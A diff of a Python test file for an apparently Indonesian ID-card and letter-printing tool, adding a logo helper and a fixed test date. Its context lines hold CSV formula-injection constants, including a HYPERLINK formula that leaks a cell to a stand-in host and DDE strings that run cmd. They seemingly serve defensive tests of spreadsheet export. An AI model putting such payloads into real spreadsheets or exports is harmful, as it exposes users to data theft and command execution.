@@ -24,6 +24,7 @@ from ektp_desk.core import demo, scheduling
 from ektp_desk.core.letters import batch
 from tests import cli_helpers
 from tests.kpu_files import person, write_kpu_csv
+from tests.letter_helpers import give_logo
 
 HOSTILE_NAME = "=HYPERLINK(\"http://x.test/?\"&A1,\"klik\")"
 HOSTILE_CMD = "+cmd|' /C calc'!A0"
@@ -32,7 +33,8 @@ HOSTILE_NOTE = "@SUM(1+1)*cmd|' /C calc'!A0"
 
 
 def ektp(*args: object, db: Path, status: int = 0) -> subprocess.CompletedProcess[str]:
-    return cli_helpers.ektp(db, *args, status=status)
+    # a clerk printing before polling day (the demo's election is 14 February 2024)
+    return cli_helpers.ektp(db, *args, status=status, env={"EKTP_DESK_TODAY": "2024-01-15"})
 
 
 def fingerprint(db: Path) -> dict[str, str | None]:
@@ -141,6 +143,7 @@ def summoned(tmp_path_factory: pytest.TempPathFactory) -> Path:
     path = tmp_path_factory.mktemp("outputs") / "ektp.sqlite"
     db = core_db.open_database(path, bind=False)
     demo.fill(db, 8, build_index=False)
+    give_logo(db)
     # a name of long multi-byte letters: 80 letters are 240 bytes of UTF-8
     db.execute_sql("UPDATE person SET name = ? WHERE id = (SELECT min(id) FROM person)",
                    ("ḀḂḄḆḈḊḌḎ" * 12,))
